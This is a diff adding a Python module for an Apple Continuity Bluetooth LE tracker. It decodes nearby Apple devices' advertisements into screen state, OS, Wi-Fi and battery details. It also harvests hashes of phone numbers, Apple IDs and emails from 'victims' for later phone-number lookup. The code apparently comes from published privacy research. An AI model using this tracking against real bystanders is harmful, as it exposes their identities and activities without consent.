@@ -0,0 +1,1023 @@
+#!/usr/bin/env python3
+# Author: Dmitry Chastuhin
+# Twitter: https://twitter.com/_chipik
+
+# web: https://hexway.io
+# Twitter: https://twitter.com/_hexway
+"""
+Headless Apple Continuity tracker.
+
+Importing this module has no side effect: nothing parses argv, touches hci0
+or starts threads. ContinuityTracker holds the tracker state (devices,
+resolved addresses, hashes) and the Continuity parsers, and can be driven by
+the npyscreen UI in ble_read_state.py (blocking sniff() on a thread) or by
+the FastAPI app (start()/stop() on the event loop with delta streaming).
+PyBluez is loaded when sniffing starts; requests/bs4 only when a lookup is
+used.
+"""
+import asyncio
+import json
+import os
+import re
+import subprocess
+import time
+from threading import Timer
+
+try:
+    from .utils import continuity
+    from .utils.adv_dedup import AdvDedup
+    from .utils.gatt_names import GattNameResolver
+    from .utils.phone_lookup import open_phone_db
+    from .utils.ssid_index import SSIDHashIndex
+    from .utils.phone_enrich import PhoneEnricher, HLR_API_URL
+    from .utils.device_registry import DeviceRegistry
+except ImportError:
+    # run as a script from this directory (python3 ble_read_state.py)
+    from utils import continuity
+    from utils.adv_dedup import AdvDedup
+    from utils.gatt_names import GattNameResolver
+    from utils.phone_lookup import open_phone_db
+    from utils.ssid_index import SSIDHashIndex
+    from utils.phone_enrich import PhoneEnricher, HLR_API_URL
+    from utils.device_registry import DeviceRegistry
+
+HASH2PHONE_DB = os.path.join(os.path.dirname(os.path.abspath(__file__)), 'hash2phone', 'phones.db')
+
+titles = ['Mac', 'State', 'Device', 'WI-FI', 'OS', 'Phone', 'Time', 'Notes']
+dev_sig = {'02010': 'MacBook', '02011': 'iPhone'}
+dev_types = ["iPad", "iPhone", "MacOS", "AirPods", "Powerbeats3", "BeatsX", "Beats Solo3"]
+
+# not sure about 1b, 13, 0a, 1a, 17
+# phone_states2 = {
+#                 '01':'Off',
+#                 '03':'Off',
+#                 '07':'Lock screen',
+#                 '09':'Off',
+#                 '0a':'Off',
+#                 '0b':'Home screen',
+#                 '0e':'Calling',
+#                 '11':'Home screen',
+#                 '13':'Off',
+#                 '17':'Lock screen',
+#                 '18':'Off',
+#                 '1a':'Off',
+#                 '1b':'Home screen',
+#                 '1c':'Home screen',
+#                 '47':'Lock screen',
+#                 '4b':'Home screen',
+#                 '4e':'Outgoing call',
+#                 '57':'Lock screen',
+#                 '5a':'Off',
+#                 '5b':'Home screen',
+#                 '5e':'Incoming call',
+#                 }
+phone_states = {
+    '01': 'Disabled',
+    '03': 'Idle',
+    '05': 'Music',
+    '07': 'Lock screen',
+    '09': 'Video',
+    '0a': 'Home screen',
+    '0b': 'Home screen',
+    '0d': 'Driving',
+    '0e': 'Incoming call',
+    '11': 'Home screen',
+    '13': 'Off',
+    '17': 'Lock screen',
+    '18': 'Off',
+    '1a': 'Off',
+    '1b': 'Home screen',
+    '1c': 'Home screen',
+    '23': 'Off',
+    '47': 'Lock screen',
+    '4b': 'Home screen',
+    '4e': 'Outgoing call',
+    '57': 'Lock screen',
+    '5a': 'Off',
+    '5b': 'Home screen',
+    '5e': 'Outgoing call',
+    '67': 'Lock screen',
+    '6b': 'Home screen',
+    '6e': 'Incoming call',
+}
+
+airpods_states = {
+    '00': 'Case:Closed',
+    '01': 'Case:All out',
+    '02': 'L:out',
+    '03': 'L:out',
+    '05': 'R:out',
+    '09': 'R:out',
+    '0b': 'LR:in',
+    '11': 'R:out',
+    '13': 'R:in',
+    '15': 'R:in case',
+    '20': 'L:out',
+    '21': 'Case:All out',
+    '22': 'Case:L out',
+    '23': 'R:out',
+    '29': 'L:out',
+    '2b': 'LR:in',
+    '31': 'Case:L out',
+    '33': 'Case:L out',
+    '50': 'Case:open',
+    '51': 'L:out',
+    '53': 'L:in',
+    '55': 'Case:open',
+    '70': 'Case:open',
+    '71': 'Case:R out',
+    '73': 'Case:R out',
+    '75': 'Case:open',
+}
+devices_models = {
+    "i386": "iPhone Simulator",
+    "x86_64": "iPhone Simulator",
+    "iPhone1,1": "iPhone",
+    "iPhone1,2": "iPhone 3G",
+    "iPhone2,1": "iPhone 3GS",
+    "iPhone3,1": "iPhone 4",
+    "iPhone3,2": "iPhone 4 GSM Rev A",
+    "iPhone3,3": "iPhone 4 CDMA",
+    "iPhone5,1": "iPhone 5 (GSM)",
+    "iPhone4,1": "iPhone 4S",
+    "iPhone5,2": "iPhone 5 (GSM+CDMA)",
+    "iPhone5,3": "iPhone 5C (GSM)",
+    "iPhone5,4": "iPhone 5C (Global)",
+    "iPhone6,1": "iPhone 5S (GSM)",
+    "iPhone6,2": "iPhone 5S (Global)",
+    "iPhone7,1": "iPhone 6 Plus",
+    "iPhone7,2": "iPhone 6",
+    "iPhone8,1": "iPhone 6s",
+    "iPhone8,2": "iPhone 6s Plus",
+    "iPhone8,3": "iPhone SE (GSM+CDMA)",
+    "iPhone8,4": "iPhone SE (GSM)",
+    "iPhone9,1": "iPhone 7",
+    "iPhone9,2": "iPhone 7 Plus",
+    "iPhone9,3": "iPhone 7",
+    "iPhone9,4": "iPhone 7 Plus",
+    "iPhone10,1": "iPhone 8",
+    "iPhone10,2": "iPhone 8 Plus",
+    "iPhone10,3": "iPhone X Global",
+    "iPhone10,4": "iPhone 8",
+    "iPhone10,5": "iPhone 8 Plus",
+    "iPhone10,6": "iPhone X GSM",
+    "iPhone11,2": "iPhone XS",
+    "iPhone11,4": "iPhone XS Max",
+    "iPhone11,6": "iPhone XS Max Global",
+    "iPhone11,8": "iPhone XR",
+    "MacBookPro15,1": "MacBook Pro 15, 2019",
+    "MacBookPro15,2": "MacBook Pro 13, 2019",
+    "MacBookPro15,1": "MacBook Pro 15, 2018",
+    "MacBookPro15,2": "MacBook Pro 13, 2018",
+    "MacBookPro14,3": "MacBook Pro 15, 2017",
+    "MacBookPro14,2": "MacBook Pro 13, 2017",
+    "MacBookPro14,1": "MacBook Pro 13, 2017",
+    "MacBookPro13,3": "MacBook Pro 15, 2016",
+    "MacBookPro13,2": "MacBook Pro 13, 2016",
+    "MacBookPro13,1": "MacBook Pro 13, 2016",
+    "MacBookPro11,4": "MacBook Pro 15, mid 2015",
+    "MacBookPro11,5": "MacBook Pro 15, mid 2015",
+    "MacBookPro12,1": "MacBook Pro 13, ear 2015",
+    "MacBookPro11,2": "MacBook Pro 15, mid 2014",
+    "MacBookPro11,3": "MacBook Pro 15, mid 2014",
+    "MacBookPro11,1": "MacBook Pro 13, mid 2014",
+    "MacBookPro11,2": "MacBook Pro 15, end 2013",
+    "MacBookPro11,3": "MacBook Pro 15, end 2013",
+    "MacBookPro10,1": "MacBook Pro 15, ear 2013",
+    "MacBookPro11,1": "MacBook Pro 13, end 2013",
+    "MacBookPro10,2": "MacBook Pro 13, ear 2013",
+    "MacBookPro10,1": "MacBook Pro 15, mid 2012",
+    "MacBookPro9,1": "MacBook Pro 15, mid 2012",
+    "MacBookPro10,2": "MacBook Pro 15, mid 2012",
+    "MacBookPro9,2": "MacBook Pro 15, mid 2012",
+    "MacBookPro8,3": "MacBook Pro 17, end 2011",
+    "MacBookPro8,3": "MacBook Pro 17, ear 2011",
+    "MacBookPro8,2": "MacBook Pro 15, end 2011",
+    "MacBookPro8,2": "MacBook Pro 15, ear 2011",
+    "MacBookPro8,1": "MacBook Pro 13, end 2011",
+    "MacBookPro8,1": "MacBook Pro 13, ear 2011",
+    "MacBookPro6,1": "MacBook Pro 17, mid 2010",
+    "MacBookPro6,2": "MacBook Pro 15, mid 2010",
+    "MacBookPro7,1": "MacBook Pro 13, mid 2010",
+    "MacBookPro5,2": "MacBook Pro 17, mid 2009",
+    "MacBookPro5,2": "MacBook Pro 17, ear 2009",
+    "MacBookPro5,3": "MacBook Pro 15, mid 2009",
+    "MacBookPro5,3": "MacBook Pro 15, mid 2009",
+    "MacBookPro5,5": "MacBook Pro 13, mid 2009",
+    "MacBookPro5,1": "MacBook Pro 15, end 2008",
+    "MacBookPro4,1": "MacBook Pro 17, ear 2008",
+    "MacBookPro4,1": "MacBook Pro 15, ear 2008",
+    "iPod1,1": "1st Gen iPod",
+    "iPod2,1": "2nd Gen iPod",
+    "iPod3,1": "3rd Gen iPod",
+    "iPod4,1": "4th Gen iPod",
+    "iPod5,1": "5th Gen iPod",
+    "iPod7,1": "6th Gen iPod",
+    "iPad1,1": "iPad",
+    "iPad1,2": "iPad 3G",
+    "iPad2,1": "2nd Gen iPad",
+    "iPad2,2": "2nd Gen iPad GSM",
+    "iPad2,3": "2nd Gen iPad CDMA",
+    "iPad2,4": "2nd Gen iPad New Revision",
+    "iPad3,1": "3rd Gen iPad",
+    "iPad3,2": "3rd Gen iPad CDMA",
+    "iPad3,3": "3rd Gen iPad GSM",
+    "iPad2,5": "iPad mini",
+    "iPad2,6": "iPad mini GSM+LTE",
+    "iPad2,7": "iPad mini CDMA+LTE",
+    "iPad3,4": "4th Gen iPad",
+    "iPad3,5": "4th Gen iPad GSM+LTE",
+    "iPad3,6": "4th Gen iPad CDMA+LTE",
+    "iPad4,1": "iPad Air (WiFi)",
+    "iPad4,2": "iPad Air (GSM+CDMA)",
+    "iPad4,3": "1st Gen iPad Air (China)",
+    "iPad4,4": "iPad mini Retina (WiFi)",
+    "iPad4,5": "iPad mini Retina (GSM+CDMA)",
+    "iPad4,6": "iPad mini Retina (China)",
+    "iPad4,7": "iPad mini 3 (WiFi)",
+    "iPad4,8": "iPad mini 3 (GSM+CDMA)",
+    "iPad4,9": "iPad Mini 3 (China)",
+    "iPad5,1": "iPad mini 4 (WiFi)",
+    "iPad5,2": "4th Gen iPad mini (WiFi+Cellular)",
+    "iPad5,3": "iPad Air 2 (WiFi)",
+    "iPad5,4": "iPad Air 2 (Cellular)",
+    "iPad6,3": "iPad Pro (9.7 inch, WiFi)",
+    "iPad6,4": "iPad Pro (9.7 inch, WiFi+LTE)",
+    "iPad6,7": "iPad Pro (12.9 inch, WiFi)",
+    "iPad6,8": "iPad Pro (12.9 inch, WiFi+LTE)",
+    "iPad6,11": "iPad (2017)",
+    "iPad6,12": "iPad (2017)",
+    "iPad7,1": "iPad Pro 2nd Gen (WiFi)",
+    "iPad7,2": "iPad Pro 2nd Gen (WiFi+Cellular)",
+    "iPad7,3": "iPad Pro 10.5-inch",
+    "iPad7,4": "iPad Pro 10.5-inch",
+    "iPad7,5": "iPad 6th Gen (WiFi)",
+    "iPad7,6": "iPad 6th Gen (WiFi+Cellular)",
+    "iPad8,1": "iPad Pro 3rd Gen (11 inch, WiFi)",
+    "iPad8,2": "iPad Pro 3rd Gen (11 inch, 1TB, WiFi)",
+    "iPad8,3": "iPad Pro 3rd Gen (11 inch, WiFi+Cellular)",
+    "iPad8,4": "iPad Pro 3rd Gen (11 inch, 1TB, WiFi+Cellular)",
+    "iPad8,5": "iPad Pro 3rd Gen (12.9 inch, WiFi)",
+    "iPad8,6": "iPad Pro 3rd Gen (12.9 inch, 1TB, WiFi)",
+    "iPad8,7": "iPad Pro 3rd Gen (12.9 inch, WiFi+Cellular)",
+    "iPad8,8": "iPad Pro 3rd Gen (12.9 inch, 1TB, WiFi+Cellular)",
+    "Watch1,1": "Apple Watch 38mm case",
+    "Watch1,2": "Apple Watch 38mm case",
+    "Watch2,6": "Apple Watch Series 1 38mm case",
+    "Watch2,7": "Apple Watch Series 1 42mm case",
+    "Watch2,3": "Apple Watch Series 2 38mm case",
+    "Watch2,4": "Apple Watch Series 2 42mm case",
+    "Watch3,1": "Apple Watch Series 3 38mm case (GPS+Cellular)",
+    "Watch3,2": "Apple Watch Series 3 42mm case (GPS+Cellular)",
+    "Watch3,3": "Apple Watch Series 3 38mm case (GPS)",
+    "Watch3,4": "Apple Watch Series 3 42mm case (GPS)",
+    "Watch4,1": "Apple Watch Series 4 40mm case (GPS)",
+    "Watch4,2": "Apple Watch Series 4 44mm case (GPS)",
+    "Watch4,3": "Apple Watch Series 4 40mm case (GPS+Cellular)",
+    "Watch4,4": "Apple Watch Series 4 44mm case (GPS+Cellular)",
+}
+
+proximity_dev_models = {
+    '0220': 'AirPods',
+    '0320': 'Powerbeats3',
+    '0520': 'BeatsX',
+    '0620': 'Beats Solo3'
+}
+
+proximity_colors = {
+    '00': 'White',
+    '01': 'Black',
+    '02': 'Red',
+    '03': 'Blue',
+    '04': 'Pink',
+    '05': 'Gray',
+    '06': 'Silver',
+    '07': 'Gold',
+    '08': 'Rose Gold',
+    '09': 'Space Gray',
+    '0a': 'Dark Blue',
+    '0b': 'Light Blue',
+    '0c': 'Yellow',
+}
+
+homekit_category = {
+    '0000': 'Unknown',
+    '0100': 'Other',
+    '0200': 'Bridge',
+    '0300': 'Fan',
+    '0400': 'Garage Door Opener',
+    '0500': 'Lightbulb',
+    '0600': 'Door Lock',
+    '0700': 'Outlet',
+    '0800': 'Switch',
+    '0900': 'Thermostat',
+    '0a00': 'Sensor',
+    '0b00': 'Security System',
+    '0c00': 'Door',
+    '0d00': 'Window',
+    '0e00': 'Window Covering',
+    '0f00': 'Programmable Switch',
+    '1000': 'Range Extender',
+    '1100': 'IP Camera',
+    '1200': 'Video Doorbell',
+    '1300': 'Air Purifier',
+    '1400': 'Heater',
+    '1500': 'Air Conditioner',
+    '1600': 'Humidifier',
+    '1700': 'Dehumidifier',
+    '1c00': 'Sprinklers',
+    '1d00': 'Faucets',
+    '1e00': 'Shower Systems',
+}
+
+siri_dev = {'0002': 'iPhone',
+            '0003': 'iPad',
+            '0009': 'MacBook',
+            '000a': 'Watch',
+            }
+
+magic_sw_wrist = {
+    '03': 'Not on wrist',
+    '1f': 'Wrist detection disabled',
+    '3f': 'On wrist',
+}
+
+hotspot_net = {
+    '01': '1xRTT',
+    '02': 'GPRS',
+    '03': 'EDGE',
+    '04': '3G (EV-DO)',
+    '05': '3G',
+    '06': '4G',
+    '07': 'LTE',
+}
+
+def parse_os_wifi_code(code, dev):
+    if code == '1c':
+        if dev == 'MacBook':
+            return ('Mac OS', 'On')
+        else:
+            return ('iOS12', 'On')
+    elif code == '18':
+        if dev == 'MacBook':
+            return ('Mac OS', 'Off')
+        else:
+            return ('iOS12', 'Off')
+    elif code == '10':
+        return ('iOS11', '<unknown>')
+    elif code == '1e':
+        return ('iOS13', 'On')
+    elif code == '1a':
+        return ('iOS13', 'Off')
+    elif code == '0e':
+        return ('iOS13', 'Connecting')
+    elif code == '0c':
+        return ('iOS12', 'On')
+    elif code == '04':
+        return ('iOS13', 'On')
+    elif code == '00':
+        return ('iOS10', '<unknown>')
+    elif code == '09':
+        return ('Mac OS', '<unknown>')
+    elif code == '14':
+        return ('Mac OS', 'On')
+    elif code == '98':
+        return ('WatchOS', '<unknown>')
+    else:
+        return ('', '')
+
+
+def _bluetooth_utils():
+    # needs PyBluez, so only imported once sniffing is requested
+    try:
+        from .utils import bluetooth_utils
+    except ImportError:
+        from utils import bluetooth_utils
+    return bluetooth_utils
+
+
+def get_dict_val(dict, key):
+    if key in dict:
+        return dict[key]
+    else:
+        return ''
+
+
+class ContinuityTracker(object):
+    """
+    Apple device tracker fed with LE advertisements.
+
+    Options mirror the ble_read_state.py command line switches.
+    """
+
+    def __init__(self, ttl=15, verb=None, log_file=None, check_hash=False, check_hlr=False,
+                 check_region=False, message=False, dev_id=0, hash2phone_db=HASH2PHONE_DB,
+                 hash2phone_url='', hlr_key='', hlr_pwd='', region_check_url='', imessage_url='',
+                 iwdev='wlan0', proxies=None, verify=False, active=False,
+                 ssid_index=None):
+        self.ttl = ttl
+        self.verb = verb
+        self.log_file = log_file
+        self.check_hash = check_hash
+        self.check_hlr = check_hlr
+        self.check_region = check_region
+        self.message = message
+        self.dev_id = dev_id
+        self.hash2phone_db = hash2phone_db
+        self.hash2phone_url = hash2phone_url
+        self.hlr_api_url = HLR_API_URL.format(hlr_key, hlr_pwd)
+        self.region_check_url = region_check_url
+        self.imessage_url = imessage_url
+        self.iwdev = iwdev
+        self.proxies = proxies or {}
+        self.verify = verify
+        self.active = active
+
+        self.phones = DeviceRegistry(ttl)
+        self.resolved_devs = set()
+        self.resolved_macs = set()
+        self.victims = set()
+        self.verb_messages = []
+        self.hash2phone = {}
+        # SSID hash -> SSID, persistent when an index file is given
+        self.dictOfss = ssid_index if ssid_index is not None else SSIDHashIndex()
+        self.adv_dedup = AdvDedup()
+        # identity hashes seen from a mac, used to keep device names across address rotation
+        self.fingerprints = {}
+        self.name_resolver = None
+        self.phone_db = None
+        self.enricher = None
+        self.packet_parsers = {
+            continuity.HANDOFF: self.parse_nandoff,
+            continuity.WATCH_C: self.parse_watch_c,
+            continuity.WIFI_SET: self.parse_wifi_set,
+            continuity.HOTSPOT: self.parse_hotspot,
+            continuity.WIFI_JOIN: self.parse_wifi_j,
+            continuity.AIRPODS: self.parse_airpods,
+            continuity.AIRDROP: self.parse_airdrop_r,
+            continuity.AIRPRINT: self.parse_airprint,
+            continuity.HOMEKIT: self.parse_homekit,
+            continuity.SIRI: self.parse_siri,
+            continuity.AIRPLAY: self.parse_airplay,
+        }
+
+        self.sock = None
+        self._adapter = None
+        self._publisher = None
+        self._queues = []
+        self.seq = 0
+
+    # ---- packets -------------------------------------------------------
+
+    def le_advertise_packet_handler(self, mac, adv_type, data, rssi):
+        # same payload as last time from this mac: nothing to parse, just keep it alive
+        if self.adv_dedup.seen(mac, data, rssi):
+            if mac in self.phones:
+                self.phones[mac]['time'] = int(time.time())
+            return
+        self.read_packet(mac, data)
+
+    def read_packet(self, mac, data):
+        decoded = continuity.decode_continuity(data)
+        if decoded is None:
+            return
+        header, packet = decoded
+        # message type -> parser, applied in packet_parsers order after Nearby
+        if continuity.NEARBY in packet:
+            self.parse_nearby(mac, header.hex(), packet[continuity.NEARBY])
+        for msg_type, parser in self.packet_parsers.items():
+            if msg_type in packet:
+                parser(mac, packet[msg_type])
+
+    def clear_zombies(self):
+        removed = self.phones.expire()
+        for k in removed:
+            self.adv_dedup.forget(k)
+            self.resolved_macs.discard(k)
+            self.resolved_devs.discard(k)
+            self.victims.discard(k)
+            self.fingerprints.pop(k, None)
+        return removed
+
+    def pop_verb_messages(self):
+        result = '\n'.join(self.verb_messages)
+        self.verb_messages = []
+        return result
+
+    def snapshot(self):
+        """Current devices as a list of rows (dicts with a 'mac' key)."""
+        self.clear_zombies()
+        return [dict(row, mac=mac) for mac, row in self.phones.items()]
+
+    def put_verb_message(self, msg, mac):
+        if self.verb:
+            action = msg[:msg.find(":")]
+            if action.lower() in self.verb.lower().split(",") or "all" in self.verb.lower():
+                f = open(self.log_file, 'a+')
+                f.write(f"{mac} {msg}\n")
+                f.close()
+                self.verb_messages.append(f"{mac} {msg}")
+
+    def parse_nearby(self, mac, header, result):
+        # 0        1        2                                 5
+        # +--------+--------+--------------------------------+
+        # |        |        |                                |
+        # | status | wifi   |           authTag              |
+        # |        |        |                                |
+        # +--------+--------+--------------------------------+
+        self.put_verb_message("Nearby:{}".format(json.dumps(result._asdict())), mac)
+        status = '%02x' % result.status
+        wifi = '%02x' % result.wifi
+        state = os_state = wifi_state = unkn = '<unknown>'
+        if self.verb:
+            state = os_state = wifi_state = unkn = '<unknown>({})'.format(status)
+        if status in phone_states:
+            state = phone_states[status]
+            if self.verb:
+                state = '{}({})'.format(phone_states[status], status)
+        dev_val = unkn
+        for dev in dev_sig:
+            if dev in header:
+                dev_val = dev_sig[dev]
+        os_state, wifi_state = parse_os_wifi_code(wifi, dev_val)
+        if self.verb:
+            wifi_state = '{}({})'.format(wifi_state, wifi)
+        if os_state == 'WatchOS':
+            dev_val = 'Watch'
+        if mac in self.resolved_macs or mac in self.resolved_devs:
+            self.phones[mac]['state'] = state
+            self.phones[mac]['wifi'] = wifi_state
+            self.phones[mac]['os'] = os_state
+            self.phones[mac]['time'] = int(time.time())
+            if mac not in self.resolved_devs:
+                self.phones[mac]['device'] = dev_val
+        else:
+            self.phones[mac] = {'state': unkn, 'device': unkn, 'wifi': unkn, 'os': unkn, 'phone': '', 'time': int(time.time()),
+                                'notes': ''}
+            self.phones[mac]['device'] = dev_val
+            self.resolved_macs.add(mac)
+
+    def parse_nandoff(self, mac, result):
+        # 0       1          3       4                                   14
+        # +-------+----------+-------+-----------------------------------+
+        # |       |          |       |                                   |
+        # | Clbrd | seq.nmbr | Auth  |     Encrypted payload             |
+        # |       |          |       |                                   |
+        # +-------+----------+-------+-----------------------------------+
+        self.put_verb_message("Handoff:{}".format(json.dumps(result._asdict())), mac)
+        notes = f"Clbrd:True" if result.clipboard == 0x08 else ''
+        if mac in self.resolved_macs:
+            self.phones[mac]['time'] = int(time.time())
+            self.phones[mac]['notes'] = notes
+        else:
+            self.phones[mac] = {'state': 'Idle', 'device': 'AppleWatch', 'wifi': '', 'os': '', 'phone': '',
+                                'time': int(time.time()), 'notes': notes}
+            self.resolved_macs.add(mac)
+
+    def parse_watch_c(self, mac, result):
+        # 0          2       3
+        # +----------+-------+
+        # |          |       |
+        # |  Data    | Wrist |
+        # |          |       |
+        # +----------+-------+
+        self.put_verb_message("MagicSwitch:{}".format(json.dumps(result._asdict())), mac)
+        notes = f"{magic_sw_wrist.get('%02x' % result.wrist, '')}"
+        if mac in self.resolved_macs:
+            self.phones[mac]['state'] = 'MagicSwitch'
+            self.phones[mac]['time'] = int(time.time())
+            self.phones[mac]['notes'] = notes
+        else:
+            self.phones[mac] = {'state': 'MagicSwitch', 'device': 'AppleWatch', 'wifi': '', 'os': '', 'phone': '',
+                                'time': int(time.time()), 'notes': notes}
+            self.resolved_macs.add(mac)
+
+    def parse_wifi_set(self, mac, result):
+        # 0                                         4
+        # +-----------------------------------------+
+        # |                                         |
+        # |             iCloud ID                   |
+        # |                                         |
+        # +-----------------------------------------+
+        self.put_verb_message("WiFi settings:{}".format(json.dumps(result._asdict())), mac)
+        unkn = '<unknown>'
+        if mac in self.resolved_macs or mac in self.resolved_devs:
+            self.phones[mac]['state'] = 'WiFi screen'
+        else:
+            self.phones[mac] = {'state': unkn, 'device': unkn, 'wifi': unkn, 'os': unkn, 'phone': '', 'time': int(time.time())}
+            self.resolved_macs.add(mac)
+
+    def parse_hotspot(self, mac, result):
+        # 0       1       2           4       5       6
+        # +-------+-------+-----------+-------+-------+
+        # |       |       |           | Net   |  Sig  |
+        # | Ver   | Flags | Bat. lvl  | type  |  str  |
+        # |       |       |           |       |       |
+        # +-------+-------+-----------+-------+--------
+
+        self.put_verb_message("Hotspot:{}".format(json.dumps(result._asdict())), mac)
+        notes = hotspot_net.get('%02x' % result.cell_srv, '')
+        if mac in self.resolved_macs or mac in self.resolved_devs:
+            self.phones[mac]['state'] = '{}.Bat:{}%'.format(self.phones[mac]['state'], result.battery)
+            self.phones[mac]['notes'] = notes
+        else:
+            self.phones[mac] = {'state': 'MagicSwitch', 'device': 'AppleWatch', 'wifi': '', 'os': '', 'phone': '',
+                                'time': int(time.time()), 'notes': notes}
+            self.resolved_macs.add(mac)
+
+    def parse_wifi_j(self, mac, result):
+        # 0        1       2                        5                         8                       12                     15                     18
+        # +--------+-------+------------------------+-------------------------+-----------------------+----------------------+----------------------+
+        # |        |       |                        |                         |                       |                      |                      |
+        # | flags  | type  |     auth tag           |     sha(appleID)        |   sha(phone_nbr)      |  sha(email)          |   sha(SSID)          |
+        # |        | (0x08)|                        |                         |                       |                      |                      |
+        # +--------+--------------------------------+-------------------------+-----------------------+----------------------+----------------------+
+
+        self.put_verb_message("WiFi join:{}".format(json.dumps(result._asdict())), mac)
+        notes = f"phone:{result.phone_hash}"
+        ssid = get_dict_val(self.dictOfss, result.ssid_hash)
+        if ssid:
+            notes += f" ssid:{ssid}"
+        self.fingerprints[mac] = 'wifi_join:' + result.appleID_hash
+        unkn = '<unknown>'
+        if mac not in self.victims and result.type == 0x08:
+            self.victims.add(mac)
+            # filled in the background by enrich_victim()
+            self.hash2phone[mac] = {'ph_hash': result.phone_hash, 'email_hash': result.email_hash,
+                                    'appleID_hash': result.appleID_hash, 'SSID_hash': result.ssid_hash,
+                                    'phone_info': {}}
+            if self.check_hash:
+                self.enrich_victim(mac, result.phone_hash, result.ssid_hash)
+            if mac in self.resolved_macs:
+                self.phones[mac]['time'] = int(time.time())
+                self.phones[mac]['phone'] = 'X'
+                self.phones[mac]['notes'] = notes
+            else:
+                self.phones[mac] = {'state': unkn, 'device': unkn, 'wifi': unkn, 'os': unkn, 'phone': '',
+                                    'time': int(time.time()), 'notes': notes}
+                self.resolved_macs.add(mac)
+                self.phones[mac]['time'] = int(time.time())
+                self.phones[mac]['phone'] = 'X'
+        else:
+            self.phones[mac]['time'] = int(time.time())
+
+    def parse_airpods(self, mac, result):
+        # 0       1                3        4       5       6       7       8       9                                 25
+        # +-------+----------------+--------+-------+-------+-------+-------+-------+---------------------------------+
+        # |       |      Device    |        |       |       | Lid   |  Dev  |       |                                 |
+        # |  0x01 |      model     |  UTP   | Bat1  | Bat2  | open  |  color|  0x00 |        encrypted payload        |
+        # |       |                |        |       |       | cntr  |       |       |                                 |
+        # +-------+----------------+--------+-------+-------+-------+-------+-------+---------------------------------+
+
+        self.put_verb_message("AirPods:{}".format(json.dumps(result._asdict())), mac)
+        state = unkn = '<unknown>'
+        bat_left = (result.battery1 >> 4) * 10
+        bat_right = (result.battery1 & 0x0f) * 10
+        color = '{}'.format(proximity_colors.get('%02x' % result.color, '<unknown>'))
+        bat_level = 'L:{}% R:{}%'.format(bat_left, bat_right)
+        notes = f'{bat_level} {color}'
+        utp = '%02x' % result.utp
+        if utp in airpods_states:
+            state = airpods_states[utp]
+        else:
+            state = unkn
+        if result.battery1 == 0x09:
+            state = 'Case:Closed'
+        if mac in self.resolved_macs:
+            self.phones[mac]['state'] = state
+            self.phones[mac]['time'] = int(time.time())
+            self.phones[mac]['notes'] = notes
+        else:
+            self.phones[mac] = {'state': state, 'device': proximity_dev_models.get('%04x' % result.model, unkn), 'wifi': '', 'os': '',
+                                'phone': '',
+                                'time': int(time.time()), 'notes': notes}
+            self.resolved_macs.add(mac)
+
+    def parse_airdrop_r(self, mac, result):
+        # 0                                         8        9                11                    13                  15                 17       18
+        # +-----------------------------------------+--------+----------------+---------------------+-------------------+------------------+--------+
+        # |                                         |        |                |                     |                   |                  |        |
+        # |           zeros                         |st(0x01)| sha(AppleID)   | sha(phone)          |  sha(email)       |   sha(email2)    |  zero  |
+        # |                                         |        |                |                     |                   |                  |        |
+        # +-----------------------------------------+--------+----------------+---------------------+-------------------+------------------+--------+
+        self.put_verb_message("AirDrop:{}".format(json.dumps(result._asdict())), mac)
+        notes = f"phone:{result.phone_hash}"
+        self.fingerprints[mac] = 'airdrop:' + result.appleID_hash + result.phone_hash
+        if mac in self.resolved_macs:
+            self.phones[mac]['state'] = 'AirDrop'
+            self.phones[mac]['time'] = int(time.time())
+            self.phones[mac]['notes'] = notes
+        else:
+            self.phones[mac] = {'state': 'AirDrop', 'device': '', 'wifi': '', 'os': '', 'phone': '',
+                                'time': int(time.time()), 'notes': notes}
+            self.resolved_macs.add(mac)
+
+    def parse_airprint(self, mac, result):
+        # 0       1       2       3           5                                         21       22
+        # +-------+-------+-------+-----------+-----------------------------------------+---------+
+        # |  Addr | Res   | Sec   |   QID or  |                                         |         |
+        # |  Type | path  | Type  |   TCP port|      IPv4 or IPv6 Address               | Power   |
+        # |       | type  |       |           |                                         |         |
+        # +-------+-------+-------+-----------+-----------------------------------------+---------+
+        self.put_verb_message("AirPrint:{}".format(json.dumps(result._asdict())), mac)
+        if mac in self.resolved_macs:
+            self.phones[mac]['state'] = 'AirPrint'
+            self.phones[mac]['time'] = int(time.time())
+        else:
+            self.phones[mac] = {'state': 'AirPrint', 'device': '', 'wifi': '', 'os': '', 'phone': '',
+                                'time': int(time.time()), 'notes': ''}
+            self.resolved_macs.add(mac)
+
+    def parse_airplay(self, mac, result):
+        # 0       1       2                6
+        # +-------+------------------------+
+        # |       | Config|                |
+        # | Flags | seed  |     IPv4       |
+        # |       |       |                |
+        # +-------+-------+----------------+
+        self.put_verb_message("AirPlay:{}".format(json.dumps(result._asdict())), mac)
+        if mac in self.resolved_macs:
+            self.phones[mac]['state'] = 'AirPlay'
+            self.phones[mac]['time'] = int(time.time())
+        else:
+            self.phones[mac] = {'state': 'AirPlay', 'device': '', 'wifi': '', 'os': '', 'phone': '',
+                                'time': int(time.time()), 'notes': ''}
+            self.resolved_macs.add(mac)
+
+    def parse_homekit(self, mac, result):
+        # 0       1                7            9             11      12      13
+        # +------------------------+--------------------------+-------+-------+
+        # | Status|                |            |Global State | Conf  | Comp  |
+        # | flag  |  Device ID     | Categoty   |  number     | nmbr  | ver   |
+        # |       |                |            |             |       |       |
+        # +-------+----------------+------------+-------------+-------+-------+
+        self.put_verb_message("Homekit:{}".format(json.dumps(result._asdict())), mac)
+        notes = homekit_category.get('%04x' % result.category, '')
+        if mac in self.resolved_macs:
+            self.phones[mac]['state'] = 'Homekit'
+            self.phones[mac]['time'] = int(time.time())
+            self.phones[mac]['notes'] = notes
+        else:
+            self.phones[mac] = {'state': 'Homekit', 'device': '', 'wifi': '', 'os': '', 'phone': '',
+                                'time': int(time.time()), 'notes': notes}
+            self.resolved_macs.add(mac)
+
+    def parse_siri(self, mac, result):
+        # 0            2        3        4            6        7
+        # +------------+--------+--------+------------+--------+
+        # |            |        |        |            | Random |
+        # |   hash     | SNR    | Confid |  Dev class | byte   |
+        # |            |        |        |            |        |
+        # +------------+--------+--------+------------+--------+
+        self.put_verb_message("Siri:{}".format(json.dumps(result._asdict())), mac)
+        if mac in self.resolved_macs:
+            self.phones[mac]['state'] = 'Siri'
+            self.phones[mac]['time'] = int(time.time())
+            self.phones[mac]['device'] = siri_dev.get('%04x' % result.devClass, '')
+        else:
+            self.phones[mac] = {'state': 'Siri', 'device': siri_dev.get('%04x' % result.devClass, ''), 'wifi': '', 'os': '', 'phone': '',
+                                'time': int(time.time()), 'notes': ''}
